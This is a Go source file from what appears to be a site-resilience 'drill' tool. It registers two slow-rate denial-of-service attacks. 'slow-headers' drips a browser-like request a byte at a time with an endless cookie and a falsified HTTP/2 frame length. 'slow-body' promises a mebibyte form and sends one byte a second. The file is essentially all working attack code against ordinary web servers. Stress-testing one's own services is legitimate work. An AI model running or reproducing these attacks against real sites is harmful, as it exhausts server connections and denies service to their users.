package attack

import (
	"context"
	"errors"
	"net/http"
	"net/netip"
	"time"

	"golang.org/x/net/http2"

	"kontor/drill/browser"
)

func init() {
	kinds["slow-headers"] = newSlowHeaders
	kinds["slow-body"] = newSlowBody
}

// The slow kinds' pace, and the length that a slow body promises.
const (
	headerEvery = 5 * time.Second
	bodyEvery   = time.Second
	bodyLength  = 1 << 20
)

// oneOnly offers HTTP/1.1 alone.
var oneOnly = []string{"http/1.1"}

// offer has every second connection speak HTTP/1.1 and the others what a browser
// speaks.
func offer(i uint64) []string {
	if i%2 == 0 {
		return oneOnly
	}
	return both
}

// newSlowHeaders holds connections on which a browser's request comes a byte
// every 5 seconds and never ends: its text, or over HTTP/2 its frame of headers.
func newSlowHeaders(p Params) (Attack, error) {
	return p.hold(func(ctx context.Context, t Target, from netip.Addr, i uint64) (Outcome, error) {
		g, err := t.grip(ctx, from, offer(i))
		if err != nil {
			return Broken, err
		}
		defer g.Close()
		r := t.page(browser.Desk, or(p.Path, "/"), "", nil)
		rest := append(r.text(nil, 0), "Cookie: visit="...)
		if g.protocol == "h2" {
			if rest, err = g.unfinished(&r); err != nil {
				return Broken, err
			}
		}
		at := 0
		return g.drip(headerEvery, func() []byte {
			if at == len(rest) { // an endless cookie
				return []byte("a")
			}
			at++
			return rest[at-1 : at]
		}), nil
	})
}

// newSlowBody holds connections on which a form of a mebibyte is promised and
// comes a byte a second.
func newSlowBody(p Params) (Attack, error) {
	return p.hold(func(ctx context.Context, t Target, from netip.Addr, i uint64) (Outcome, error) {
		g, err := t.grip(ctx, from, offer(i))
		if err != nil {
			return Broken, err
		}
		defer g.Close()
		path := or(p.Path, "/sign-in")
		r := t.page(browser.Desk, path, t.link(path), func(h http.Header) {
			h.Set("Content-Type", "application/x-www-form-urlencoded")
			h.Set("Origin", t.link(""))
		})
		r.method = http.MethodPost
		piece := []byte("a")
		if g.protocol == "h2" {
			if piece, err = g.promise(&r, piece); err != nil {
				return Broken, err
			}
		} else if _, err := g.Write(append(r.text(nil, bodyLength), "\r\n"...)); err != nil {
			return Broken, err
		}
		return g.drip(bodyEvery, func() []byte { return piece }), nil
	})
}

// unfinished greets the site and returns a request's frame of headers that says
// it is longer than what there is.
func (g *grip) unfinished(r *request) ([]byte, error) {
	f, err := g.frames(greeting[1].Val)
	if err != nil {
		return nil, err
	}
	block, err := f.headers(r, 0)
	if err != nil {
		return nil, err
	}
	err = f.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true, EndHeaders: true})
	frame := f.out.Bytes()
	frame[0], frame[1], frame[2] = 0, 16<<10>>8, 0 // its length (RFC 9113 §4.1)
	return frame, err
}

// promise greets the site, sends the headers of a form, and returns a frame with
// a piece of its body.
func (g *grip) promise(r *request, piece []byte) ([]byte, error) {
	f, err := g.frames(greeting[1].Val)
	if err != nil {
		return nil, err
	}
	block, err := f.headers(r, bodyLength)
	if err != nil {
		return nil, err
	}
	err = errors.Join(f.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true}), f.send(),
		f.fr.WriteData(1, false, piece))
	return f.out.Bytes(), err
}

// or is the first of two that is not empty.
func or(a, b string) string {
	if a != "" {
		return a
	}
	return b
}
